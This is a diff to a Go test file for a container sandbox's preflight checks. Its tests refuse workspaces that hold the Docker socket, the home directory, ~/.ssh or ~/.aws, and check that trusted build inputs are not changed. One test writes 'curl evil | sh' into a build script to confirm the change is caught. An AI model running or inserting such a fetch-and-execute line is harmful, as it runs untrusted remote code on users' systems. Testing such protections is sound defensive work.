@@ -13,7 +13,9 @@ import (
 	"testing"
 
 	"github.com/propio/propio-sandbox/generator"
+	"github.com/propio/propio-sandbox/internal/buildinputs"
 	"github.com/propio/propio-sandbox/internal/engine"
+	"github.com/propio/propio-sandbox/internal/fsutil"
 	"github.com/propio/propio-sandbox/internal/preflight"
 	"github.com/propio/propio-sandbox/internal/profile"
 )
@@ -34,6 +36,8 @@ func (f fakeEngine) ImageArch(_ context.Context, ref string) (string, bool, erro
 type fakeTrust struct{ err error }
 
 func (f fakeTrust) Verify(*profile.Profile) error { return f.err }
+
+func (f fakeTrust) Lookup(string) (string, []byte, bool, error) { return "", nil, false, f.err }
 
 // hintedErr is an engine error that carries hints, as the CLI's do.
 type hintedErr struct{ error }
@@ -119,6 +123,29 @@ func TestChecks(t *testing.T) {
 			e.info.DataDir = filepath.Dir(in.Workspace)
 			in.Connect = func(context.Context) (preflight.EngineConn, error) { return e, nil }
 		}, reason: "engine's data directory", hint: "outside"},
+		{name: "workspace holds the engine's socket", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
+			sock := filepath.Join(in.Workspace, "run", "docker.sock")
+			os.MkdirAll(filepath.Dir(sock), 0o755)
+			os.WriteFile(sock, nil, 0o644)
+			in.Dangers = profile.GrantHost{Home: in.Home, Sockets: []string{sock}, Resolve: fsutil.Resolve}.Dangers
+		}, reason: "contains the engine's socket", hint: "no keys, credentials or engine socket"},
+		{name: "workspace a parent of HOME", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
+			in.Home = filepath.Join(in.Workspace, "me")
+			os.Mkdir(in.Home, 0o755)
+			in.Dangers = profile.GrantHost{Home: in.Home, Resolve: fsutil.Resolve}.Dangers
+		}, reason: "contains your home directory"},
+		{name: "workspace in ~/.ssh", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
+			in.Home = in.Workspace
+			in.Workspace = filepath.Join(in.Home, ".ssh", "work")
+			os.MkdirAll(in.Workspace, 0o755)
+			in.Dangers = profile.GrantHost{Home: in.Home, Resolve: fsutil.Resolve}.Dangers
+		}, reason: "is in ~/.ssh: the sandbox can read your SSH keys"},
+		{name: "workspace in ~/.aws", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
+			in.Home = in.Workspace
+			in.Workspace = filepath.Join(in.Home, ".aws")
+			os.MkdirAll(in.Workspace, 0o755)
+			in.Dangers = profile.GrantHost{Home: in.Home, Resolve: fsutil.Resolve}.Dangers
+		}, reason: "is in ~/.aws"},
 		{name: "workspace without engine", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
 			in.Connect = func(context.Context) (preflight.EngineConn, error) { return nil, errors.New("down") }
 		}, ok: true, reason: "was not compared"},
@@ -254,6 +281,59 @@ func TestPortsReal(t *testing.T) {
 }
 
 func itoa(n int) string { return strconv.Itoa(n) }
+
+// TestBuildTrust: with --build, a build whose Dockerfile or context is in the
+// workspace needs trust for what it reads, and a change to it is refused,
+// saying what changed; without --build, or with a build outside the
+// workspace, nothing of the build is checked.
+func TestBuildTrust(t *testing.T) {
+	t.Parallel()
+	ctx := t.TempDir() // the build's context; the profile is elsewhere
+	in := inputs(t, "build: {context: "+ctx+"}\n")
+	if err := os.WriteFile(filepath.Join(ctx, "Dockerfile"), []byte("FROM x\nCOPY setup.sh /\nRUN /setup.sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(ctx, "setup.sh"), []byte("true\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	store := profile.TrustStore{Dir: t.TempDir()}
+	in.Trust = store
+	in.Ref = "mine"
+
+	if r := one(t, in, preflight.Trust); !r.OK || !strings.Contains(r.Reason, "needs no trust") {
+		t.Errorf("without --build: %+v", r)
+	}
+	in.Build = true
+	if r := one(t, in, preflight.Trust); !r.OK || !strings.Contains(r.Reason, "the build reads nothing of the workspace") {
+		t.Errorf("a build outside the workspace: %+v", r)
+	}
+	in.Workspace = ctx
+	r := one(t, in, preflight.Trust)
+	if r.OK || !strings.Contains(r.Reason, "the build of "+filepath.Join(ctx, "Dockerfile")+" is new") || !slices.ContainsFunc(r.Hints, func(h string) bool { return strings.Contains(h, "propio-sandbox trust -p mine") }) {
+		t.Errorf("a build never trusted: %+v", r)
+	}
+
+	inputs, err := buildinputs.Collect(buildinputs.Paths{Context: ctx, Dockerfile: filepath.Join(ctx, "Dockerfile")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := store.Trust(nil, profile.Record{Key: inputs.Key(), Digest: inputs.Digest(), Text: inputs.Manifest()}); err != nil {
+		t.Fatal(err)
+	}
+	if r := one(t, in, preflight.Trust); !r.OK || !strings.Contains(r.Reason, "the build of "+filepath.Join(ctx, "Dockerfile")+" is trusted as it is") {
+		t.Errorf("a trusted build: %+v", r)
+	}
+	if err := os.WriteFile(filepath.Join(ctx, "setup.sh"), []byte("curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if r := one(t, in, preflight.Trust); r.OK || !strings.Contains(r.Reason, "setup.sh changed") {
+		t.Errorf("a changed script: %+v", r)
+	}
+	in.Build = false
+	if r := one(t, in, preflight.Trust); !r.OK {
+		t.Errorf("run without --build needs no build trust: %+v", r)
+	}
+}
 
 // TestBuiltinNamesKnownToProfiles: a declared check may not take a built-in
 // check's name; the profile package's list must be this package's.
